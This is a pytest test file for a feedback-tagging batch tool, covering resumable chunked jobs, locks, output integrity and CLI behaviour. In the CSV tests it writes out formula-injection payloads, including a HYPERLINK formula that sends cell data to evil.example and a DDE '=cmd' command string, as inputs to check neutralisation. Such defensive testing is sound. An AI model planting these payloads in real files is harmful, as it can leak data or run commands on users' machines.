import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import feedback_nlp.batch as batch
from conftest import HashEmbedder
from feedback_nlp import ColumnError, InvalidInputError
from feedback_nlp._lock import JobLock
from feedback_nlp.batch import ProgressReporter, tag_file
from feedback_nlp.errors import JobLockedError, UsageError
from feedback_nlp.records import read_table, write_table
from feedback_nlp.tagging import TagClassifier


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory, sample, sample_vectors, embedder):
    clf = TagClassifier(embedder).fit(sample_vectors, sample["request_type"])
    return clf.save(tmp_path_factory.mktemp("model") / "request-type")


@pytest.fixture(scope="module")
def backlog(tmp_path_factory, sample):
    """The sample plus rows that must be rejected: empty, binary, too long, missing id."""
    df = sample[["id", "text", "source"]].copy()
    bad = pd.DataFrame({
        "id": ["BAD-EMPTY", "BAD-BIN", "BAD-LONG", "", "BAD-WS"],
        "text": ["", "abc\x00\x01\x02\x03\x04def", "word " * 6000, "no id on this row", "   "],
        "source": ["support"] * 5,
    })
    df = pd.concat([df.iloc[:1000], bad, df.iloc[1000:]], ignore_index=True)
    path = tmp_path_factory.mktemp("in") / "backlog.csv"
    df.to_csv(path, index=False)
    return path


def _check(out, errors, n_in):
    o, e = read_table(out).drop(columns="_row"), read_table(errors).drop(columns="_row")
    assert len(o) + len(e) == n_in
    rows = np.sort(np.concatenate([o["row"].astype(int), e["row"].astype(int)]))
    # every input row exactly once; `row` is the record's line (CSV/JSONL) or record number (Parquet), from 1
    assert len(np.unique(rows)) == n_in and rows.min() >= 1
    return o, e


def test_errors_accounting(model_dir, backlog, tmp_path, cache_path):
    out = tmp_path / "tagged.parquet"
    summary = tag_file(model_dir, backlog, out, chunk_size=400, cache=cache_path, progress=False)
    assert summary.rows_in == 3005 and summary.rows_error == 5 and summary.rows_out == 3000
    assert str(summary).startswith("rows in: 3005 = tagged: 3000 + errors: 5")
    o, e = _check(out, summary.errors, 3005)
    reasons = dict(zip(e["id"].fillna(""), e["reason"]))
    assert reasons["BAD-EMPTY"].startswith("empty") and reasons["BAD-BIN"].startswith("binary")
    assert reasons["BAD-LONG"].startswith("text too long") and reasons[""] == "missing id"
    assert list(o.columns) == ["row", "id", "tags", "probabilities", "confidence", "needs_review"]
    assert not (tmp_path / "tagged.parquet.parts").exists()


@pytest.mark.parametrize("ext", ["csv", "jsonl"])
def test_other_formats(model_dir, backlog, tmp_path, cache_path, ext):
    src = tmp_path / f"in.{'parquet' if ext == 'csv' else 'jsonl'}"
    write_table(read_table(backlog).drop(columns="_row"), src)
    out = tmp_path / f"tagged.{ext}"
    summary = tag_file(model_dir, src, out, chunk_size=1000, cache=cache_path, progress=False)
    _check(out, summary.errors, 3005)


def read_json_backend(out):
    import json

    manifest = json.loads((out.with_name(out.name + ".parts") / "manifest.json").read_text())
    return manifest["embedding"].split(":")[1]  # model@revision:backend[:long-text mode]


def test_interrupted_run_needs_resume(model_dir, backlog, tmp_path, cache_path):
    out = tmp_path / "t.parquet"

    def boom(index):
        if index == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, chunk_hook=boom)
    with pytest.raises(InvalidInputError, match="--resume"):
        tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False)
    with pytest.raises(InvalidInputError, match=r"--chunk-size \(300 -> 999\) changed"):
        tag_file(model_dir, backlog, out, chunk_size=999, cache=cache_path, progress=False, resume=True)
    other = "torch" if read_json_backend(out) != "torch" else "torch-bf16"
    with pytest.raises(InvalidInputError, match="the embedding model or backend"):  # another backend: never mixed in one output
        tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, resume=True, backend=other)
    summary = tag_file(model_dir, backlog, out, chunk_size=300, cache=cache_path, progress=False, resume=True)
    assert summary.chunks_reused == 3
    _check(out, summary.errors, 3005)


def test_sigkill_and_resume(model_dir, backlog, tmp_path, cache_path):
    out = tmp_path / "k.parquet"
    parts = tmp_path / "k.parquet.parts"
    env = {**os.environ, "FEEDBACK_NLP_CACHE": str(cache_path)}
    cmd = [sys.executable, "-m", "feedback_nlp.cli", "tag", "--model", str(model_dir), "--in", str(backlog),
           "--out", str(out), "--chunk-size", "100"]
    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.time() + 240
    while time.time() < deadline and len(list(parts.glob("part-*.parquet"))) < 4:
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    done_before = len(list(parts.glob("part-*.parquet")))
    assert 4 <= done_before < 31, "the job should have been killed mid-run"
    res = subprocess.run(cmd + ["--resume"], env=env, capture_output=True, text=True, timeout=600)
    assert res.returncode == 0, res.stderr
    assert "rows in: 3005 = tagged: 3000 + errors: 5" in res.stdout
    o, _ = _check(out, tmp_path / "k.errors.parquet", 3005)
    assert o["id"].is_unique


def test_progress_plain_lines(capsys):
    import io

    buf = io.StringIO()
    p = ProgressReporter(total=100, every=0.0, stream=buf)
    p.update(50)
    p.update(50)
    lines = buf.getvalue().strip().splitlines()
    assert lines[-1].startswith("[feedback-nlp] 100/100 rows") and "rows/s" in lines[0]


def test_missing_column(model_dir, tmp_path):
    src = tmp_path / "x.csv"
    pd.DataFrame({"id": ["1"], "body": ["x y"]}).to_csv(src, index=False)
    from feedback_nlp import ColumnError

    with pytest.raises(ColumnError, match="text column 'text' not found"):
        tag_file(model_dir, src, tmp_path / "o.csv", progress=False)


@pytest.mark.slow
def test_dask_engine_equals_local(model_dir, backlog, tmp_path, cache_path):
    pytest.importorskip("dask.distributed")
    local = tmp_path / "local.parquet"
    tag_file(model_dir, backlog, local, chunk_size=500, cache=cache_path, progress=False)
    from dask.distributed import LocalCluster

    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        dist = tmp_path / "dask.parquet"
        summary = tag_file(model_dir, backlog, dist, chunk_size=500, cache=cache_path, progress=False,
                           engine="dask", scheduler=cluster.scheduler_address)
        assert summary.rows_in == 3005
        a, b = read_table(local), read_table(dist)
        pd.testing.assert_frame_equal(a.drop(columns="_row"), b.drop(columns="_row"))

        import dask.dataframe as dd
        from dask.distributed import Client

        from feedback_nlp.dask import tag_dataframe

        with Client(cluster):
            ddf = dd.from_pandas(read_table(backlog).drop(columns="_row"), npartitions=3)
            res = tag_dataframe(ddf, str(model_dir), cache=str(cache_path)).compute()
        assert len(res) == 3005 and res["error"].notna().sum() == 5
        ok = res[res["error"].isna()]
        assert sorted(ok["id"]) == sorted(a["id"])


def test_workers_use_the_backend_the_driver_resolved(model_dir, backlog, monkeypatch, cache_path):
    """`auto` is resolved once on the client; every partition and chunk gets that concrete backend."""
    pytest.importorskip("dask.dataframe")
    import dask.dataframe as dd

    import feedback_nlp.batch as batch_mod
    import feedback_nlp.dask as fdask

    seen = []
    real = batch_mod.load_model_cached

    def spy(model, cache=True, backend=None):
        seen.append(backend)
        return real(model, cache, backend)

    monkeypatch.setattr(fdask, "load_model_cached", spy)
    monkeypatch.delenv("FEEDBACK_NLP_BACKEND", raising=False)
    driver = real(str(model_dir), False).embedder_.backend
    ddf = dd.from_pandas(read_table(backlog).drop(columns="_row").head(300), npartitions=3)
    res = fdask.tag_dataframe(ddf, str(model_dir), cache=str(cache_path)).compute(scheduler="sync")
    assert len(res) == 300
    assert seen[0] is None and set(seen[1:]) == {driver} and len(seen) >= 4  # client probe, then 3 partitions
    clf = real(str(model_dir), False, "torch")
    assert clf.embedder_.backend == "torch" and clf is not real(str(model_dir), False, "onnx-int8")


# --- jobs: paths, locks, resume fingerprints, atomic outputs (fast: a hashed-words embedder) ---------------


WORDS = ["export", "csv", "fails", "dark", "mode", "please", "billing", "invoice", "wrong", "login", "sso", "broken"]


class FastJob:
    """A saved model folder whose loads return a classifier on hashed words (no network, no torch)."""

    def __init__(self, folder, monkeypatch):
        self.folder = folder
        self.clf = None
        self.train(seed=0)
        monkeypatch.setattr(batch, "load_model_cached", lambda model, cache=True, backend=None: self.clf)

    def train(self, seed):
        rng = np.random.default_rng(seed)
        texts = [" ".join(rng.choice(WORDS, 4)) for _ in range(60)]
        labels = ["bug" if ("fails" in t or "broken" in t) else "billing" if "invoice" in t else "feature" for t in texts]
        self.clf = TagClassifier(HashEmbedder()).fit(texts, labels)
        self.clf.save(self.folder)

    def run(self, inp, out, **kw):
        kw.setdefault("chunk_size", 50)
        return tag_file(self.folder, inp, out, cache=False, progress=False, **kw)


@pytest.fixture
def job(tmp_path, monkeypatch):
    return FastJob(tmp_path / "model", monkeypatch)


def _backlog(path, n=400, pad=0, first_text=None):
    rng = np.random.default_rng(1)
    texts = [" ".join(rng.choice(WORDS, 5)) + (" filler" * pad) for _ in range(n)]
    if first_text is not None:
        texts[0] = first_text
    pd.DataFrame({"id": [f"r{i}" for i in range(n)], "text": texts}).to_csv(path, index=False)
    return path


def _stop_after(n):
    def hook(index):
        if index == n:
            raise KeyboardInterrupt
    return hook


def _leftovers(folder):
    return sorted(p.name for p in folder.iterdir())


@pytest.mark.parametrize("how", ["same", "relative", "symlink", "hardlink"])
def test_output_that_is_the_input_is_refused_before_anything_is_written(job, tmp_path, monkeypatch, how):
    inp = _backlog(tmp_path / "in.csv")
    before = inp.read_bytes()
    out = {"same": inp, "relative": Path("sub/../in.csv"), "symlink": tmp_path / "link.csv",
           "hardlink": tmp_path / "hard.csv"}[how]
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    if how == "symlink":
        out.symlink_to(inp)
    if how == "hardlink":
        os.link(inp, out)
    listing = _leftovers(tmp_path)
    with pytest.raises(UsageError, match="are the same file"):
        job.run(inp, out)
    assert inp.read_bytes() == before and _leftovers(tmp_path) == listing


def test_errors_file_equal_to_output_or_input_is_refused(job, tmp_path):
    inp = _backlog(tmp_path / "in.csv")
    listing = _leftovers(tmp_path)
    with pytest.raises(UsageError, match="the output .* and the errors file .* are the same file"):
        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "t.csv")
    with pytest.raises(UsageError, match="the input .* and the errors file"):
        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "./in.csv")
    with pytest.raises(UsageError, match="parts folder"):  # the errors file would be written into the parts folder's place
        job.run(inp, tmp_path / "t.csv", errors_path=tmp_path / "t.csv.parts")
    assert _leftovers(tmp_path) == listing


def test_failed_start_leaves_nothing_and_the_corrected_rerun_works(job, tmp_path):
    inp = tmp_path / "in.csv"
    pd.DataFrame({"id": ["1", "2"], "body": ["export fails", "dark mode"]}).to_csv(inp, index=False)
    listing = _leftovers(tmp_path)
    with pytest.raises(ColumnError, match="'text'"):
        job.run(inp, tmp_path / "t.csv")
    assert _leftovers(tmp_path) == listing  # no parts folder, no lock, no output
    summary = job.run(inp, tmp_path / "t.csv", text_col="body")  # no --resume needed
    assert summary.rows_out == 2 and _leftovers(tmp_path) == sorted([*listing, "t.csv", "t.errors.csv"])


def test_resume_refuses_an_input_changed_in_the_middle_with_the_same_size(job, tmp_path):
    # 2.4 MB: the change sits between the first and the last megabyte, where a head+tail hash is blind
    inp = _backlog(tmp_path / "in.csv", n=600, pad=600)
    out = tmp_path / "t.parquet"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_size=200, chunk_hook=_stop_after(1))
    data = bytearray(inp.read_bytes())
    assert len(data) > 2_300_000
    at = data.index(b"filler", 1_200_000)
    data[at:at + 6] = b"FILLER"  # same size, one chunk already tagged
    inp.write_bytes(bytes(data))
    with pytest.raises(InvalidInputError, match=r"input file changed .*chunk 1, rows 20[0-9]-"):
        job.run(inp, out, chunk_size=200, resume=True)
    assert not out.exists()


def test_resume_refuses_a_retrained_model_naming_it(job, tmp_path):
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(2))
    import shutil

    shutil.copytree(job.folder, tmp_path / "original")
    kept = job.clf
    job.train(seed=1)  # same folder, same path: new weights
    with pytest.raises(InvalidInputError, match="the model folder's files \\(retrained or replaced\\) changed"):
        job.run(inp, out, resume=True)
    shutil.rmtree(job.folder)
    shutil.copytree(tmp_path / "original", job.folder)  # the very same files again: resume reuses the chunks
    job.clf = kept
    summary = job.run(inp, out, resume=True)
    assert summary.chunks_reused == 3 and summary.rows_in == 400 == summary.rows_out


def test_resume_refuses_changed_options_naming_them(job, tmp_path):
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(1))
    with pytest.raises(InvalidInputError, match="the text length limit"):
        job.run(inp, out, resume=True, max_chars=100)
    with pytest.raises(InvalidInputError, match="--id-col"):
        job.run(inp, out, resume=True, id_col=None)
    (out.with_name("t.csv.parts") / "manifest.json").write_text("{not json")
    with pytest.raises(InvalidInputError, match="no readable manifest.json"):
        job.run(inp, out, resume=True)


@pytest.mark.parametrize(("option", "same", "explicit", "recorded", "older", "other"), [
    # --format auto, then --format csv on the same CSV; --encoding unset, then utf-8 (or UTF8) on a UTF-8 file
    ("format", "csv", "csv", '"input_format": "csv"', '"input_format": "auto"', "tsv"),
    ("encoding", "UTF8", "utf-8", '"encoding": "utf-8"', '"encoding": null', "cp1252"),
])
def test_resume_reads_an_option_left_to_detection_and_what_it_found_as_one_job(job, tmp_path, option, same,
                                                                               explicit, recorded, older, other):
    # the option was fingerprinted as named: the resume was refused as a changed job and the user told to
    # delete the finished chunks
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(1))
    summary = job.run(inp, out, resume=True, **{option: same})
    assert summary.chunks_reused == 2 and summary.rows_in == 400 == summary.rows_out
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, tmp_path / "u.csv", chunk_hook=_stop_after(1), **{option: explicit})
    manifest = tmp_path / "u.csv.parts" / "manifest.json"  # parts written by a version that kept "auto" / None
    assert recorded in manifest.read_text()
    manifest.write_text(manifest.read_text().replace(recorded, older))
    assert job.run(inp, tmp_path / "u.csv", resume=True).chunks_reused == 2
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, tmp_path / "v.csv", chunk_hook=_stop_after(1))
    with pytest.raises(InvalidInputError, match=f"--{option}"):  # another format or codec still is another job
        job.run(inp, tmp_path / "v.csv", resume=True, **{option: other})


def test_a_second_run_on_the_same_output_is_refused_naming_pid_and_host(job, tmp_path):
    import socket

    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with JobLock(batch.lock_path(out)), pytest.raises(JobLockedError,
                                                      match=f"pid {os.getpid()} on host {socket.gethostname()}"):
        job.run(inp, out, resume=True)
    assert job.run(inp, out).rows_out == 400
    assert not batch.lock_path(out).exists()


def test_concurrent_resume_is_refused_while_the_first_runs(job, tmp_path):
    import threading

    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(1))
    paused, release, result = threading.Event(), threading.Event(), {}

    def slow(index):
        paused.set()
        release.wait(30)

    def first():
        result["summary"] = job.run(inp, out, resume=True, chunk_hook=slow)

    t = threading.Thread(target=first)
    t.start()
    assert paused.wait(30)
    try:
        with pytest.raises(JobLockedError, match="another run is already"):
            job.run(inp, out, resume=True)
    finally:
        release.set()
        t.join(60)
    assert result["summary"].rows_in == 400 == result["summary"].rows_out


def test_a_stale_lock_of_a_killed_run_is_taken_over_on_resume(job, tmp_path, caplog):
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(1))
    code = ("import sys, time; from feedback_nlp._lock import JobLock; "
            f"l = JobLock({str(batch.lock_path(out))!r}).__enter__(); print('held', flush=True); time.sleep(120)")
    holder = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE,
                              env={**os.environ, "PYTHONPATH": str(Path(batch.__file__).parents[1])})
    assert holder.stdout.readline().strip() == b"held"
    with pytest.raises(JobLockedError, match=f"pid {holder.pid} "):
        job.run(inp, out, resume=True)
    holder.kill()  # SIGKILL: the lock file stays behind
    holder.wait()
    assert batch.lock_path(out).exists()
    with caplog.at_level("WARNING", logger="feedback_nlp.batch"):
        summary = job.run(inp, out, resume=True)
    assert summary.chunks_reused == 2 and summary.rows_out == 400
    assert f"pid {holder.pid}" in caplog.text and "took over" in caplog.text


def test_a_failed_merge_leaves_no_partial_outputs(job, tmp_path, monkeypatch):
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    real = batch._merge_parts

    def failing(parts, target, columns, fmt, raw_csv=False):
        if "errors" in Path(target).name:
            raise OSError(28, "No space left on device", str(target))
        return real(parts, target, columns, fmt, raw_csv)

    monkeypatch.setattr(batch, "_merge_parts", failing)
    with pytest.raises(OSError, match="No space"):
        job.run(inp, out)
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]
    monkeypatch.setattr(batch, "_merge_parts", real)
    assert job.run(inp, out, resume=True).rows_out == 400  # the finished parts were kept for the resume


def test_probabilities_are_a_map_in_parquet_and_jsonl_and_json_text_in_csv(job, tmp_path):
    import json

    import pyarrow as pa
    import pyarrow.parquet as pq

    inp = _backlog(tmp_path / "in.csv", n=60)
    job.run(inp, tmp_path / "t.parquet")
    field = pq.read_schema(tmp_path / "t.parquet").field("probabilities")
    assert pa.types.is_map(field.type) and field.type.item_type == pa.float64()
    job.run(inp, tmp_path / "t.jsonl")
    first = json.loads((tmp_path / "t.jsonl").read_text().splitlines()[0])
    assert isinstance(first["probabilities"], dict) and first["probabilities"]
    assert all(isinstance(v, float) for v in first["probabilities"].values())
    job.run(inp, tmp_path / "t.csv")
    cell = pd.read_csv(tmp_path / "t.csv")["probabilities"].iloc[0]
    assert json.loads(cell) == first["probabilities"]


def test_csv_outputs_neutralise_formulas_unless_raw(job, tmp_path):
    inp = tmp_path / "in.csv"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pd.DataFrame({"id": [evil, "+1-cmd", "@SUM(1)", "-5", "", "-A1*2"],
                  "text": ["export fails", "dark mode", "sso broken", "billing wrong", "=cmd|' /C calc'!A0", "login"]}
                 ).to_csv(inp, index=False)
    summary = job.run(inp, tmp_path / "t.csv")
    ids = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)["id"].tolist()
    assert ids == ["'" + evil, "'+1-cmd", "'@SUM(1)", "-5", "'-A1*2"]  # a plain number stays a number
    errors = pd.read_csv(summary.errors, dtype=str, keep_default_na=False)
    assert errors["text"].tolist() == ["'=cmd|' /C calc'!A0"]
    job.run(inp, tmp_path / "raw.csv", raw_csv=True)
    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["id"].iloc[0] == evil


def test_parts_reused_only_when_every_chunk_matches(job, tmp_path):
    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.parquet"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(3))
    summary = job.run(inp, out, resume=True)
    full = job.run(inp, tmp_path / "fresh.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(out), pd.read_parquet(tmp_path / "fresh.parquet"))
    assert summary.chunks_reused == 4 and full.chunks_reused == 0


def test_a_part_edited_between_runs_is_an_integrity_error_and_nothing_is_written(job, tmp_path, capsys):
    import pyarrow.parquet as pq

    from feedback_nlp import IntegrityError

    inp = _backlog(tmp_path / "in.csv")
    out = tmp_path / "t.csv"
    with pytest.raises(KeyboardInterrupt):
        job.run(inp, out, chunk_hook=_stop_after(1))
    part = tmp_path / "t.csv.parts" / "part-000000.parquet"
    table = pq.read_table(part)  # half its rows gone, its metadata (the input chunk's digest) kept
    pq.write_table(table.slice(0, table.num_rows // 2), part)
    with pytest.raises(IntegrityError, match=r"do not add up: 400 rows in, 375 tagged \+ 0 errors"):
        job.run(inp, out, resume=True)  # was "RuntimeError: row accounting failed" (an 'unexpected' error)
    assert not out.exists() and (tmp_path / "t.csv.parts").is_dir()


def test_write_table_neutralises_every_formula_start_and_headers(tmp_path):
    df = pd.DataFrame({"=evil": ["=1+1", "+1", "-1+1", "@a", "\tx", "\rx", "-12.5", "1e3", "fine", None],
                       "n": range(10)})
    write_table(df, tmp_path / "a.csv")
    back = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'=evil", "n"]
    assert back["'=evil"].tolist() == ["'=1+1", "+1", "'-1+1", "'@a", "'\tx", "'\rx", "-12.5", "1e3", "fine", ""]
    write_table(df, tmp_path / "raw.csv", raw_csv=True)
    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["=evil"].iloc[0] == "=1+1"
    write_table(df, tmp_path / "a.parquet")  # other formats keep the values as they are
    assert pd.read_parquet(tmp_path / "a.parquet")["=evil"].iloc[0] == "=1+1"


def test_tag_cli_json_quiet_and_interrupt(job, tmp_path, capsys, monkeypatch):
    import json

    from feedback_nlp.cli import main

    inp = _backlog(tmp_path / "in.csv", n=120)
    out = tmp_path / "t.parquet"
    assert main(["tag", "--model", str(job.folder), "--in", str(inp), "--out", str(out), "--chunk-size", "50",
                 "--no-cache", "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["status"] == "ok" and summary["command"] == "tag"
    assert (summary["rows_in"], summary["rows_out"], summary["rows_rejected"], summary["chunks"]) == (120, 120, 0, 3)
    assert summary["outputs"] == {"output": str(out), "errors": str(tmp_path / "t.errors.parquet")}
    assert summary["model"] == str(job.folder) and summary["embedding_model"] == "hash-test@1"
    assert main(["tag", "--model", str(job.folder), "--in", str(inp), "--out", str(tmp_path / "q.csv"),
                 "--no-cache", "--quiet"]) == 0
    assert capsys.readouterr() == ("", "")

    def interrupted(index):
        raise KeyboardInterrupt

    real = batch.tag_file
    monkeypatch.setattr(batch, "tag_file", lambda *a, **k: real(*a, **{**k, "chunk_hook": interrupted}))
    code = main(["tag", "--model", str(job.folder), "--in", str(inp), "--out", str(tmp_path / "k.csv"), "--no-cache"])
    err = capsys.readouterr().err
    assert code == 130 and err.strip() == "error: interrupted; run again with --resume to continue"
    assert (tmp_path / "k.csv.parts").is_dir() and not (tmp_path / "k.csv.lock").exists()
    monkeypatch.setattr(batch, "tag_file", real)
    assert main(["tag", "--model", str(job.folder), "--in", str(inp), "--out", str(tmp_path / "k.csv"), "--no-cache",
                 "--resume"]) == 0
    assert "rows in: 120 = tagged: 120 + errors: 0 (1 chunks, 1 reused" in capsys.readouterr().out


def test_tag_partition_numbers_rows_as_tag_dataframe_does(job, monkeypatch):
    # without a _row column, tag_partition numbered rows from 1 and tag_dataframe (the same rows) from 0
    import feedback_nlp.dask as fdask

    monkeypatch.setattr(fdask, "load_model_cached", lambda model, cache=True, backend=None: job.clf)
    pdf = pd.DataFrame({"id": ["a", "b", "c"], "text": ["export csv fails", "", "dark mode please"]})
    out = fdask.tag_partition(pdf, str(job.folder))
    assert out["row"].tolist() == [0, 1, 2] and out["id"].tolist() == ["a", "b", "c"]
    assert out["error"].notna().tolist() == [False, True, False]
    kept = fdask.tag_partition(pdf.assign(_row=[10, 11, 12]), str(job.folder))
    assert kept["row"].tolist() == [10, 11, 12]


@pytest.mark.parametrize(("out", "errors"), [("g.csv", "g.errors.csv"), ("run.v2.csv", "run.v2.errors.csv"),
                                             ("g.parquet", "g.errors.csv"), ("g.json", "g.errors.csv")])
def test_dedupe_errors_file_keeps_the_output_stem(tmp_path, hashed_cli, out, errors):
    # run.v1.csv and run.v2.csv both wrote run.errors.csv: each run's errors over the other's
    from feedback_nlp.cli import main

    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ["a", "b", "c"], "text": ["export fails", "", "export is failing"]}).to_csv(src, index=False)
    assert main(["dedupe", "--in", str(src), "--out", str(tmp_path / out)]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["in.csv", out, errors])
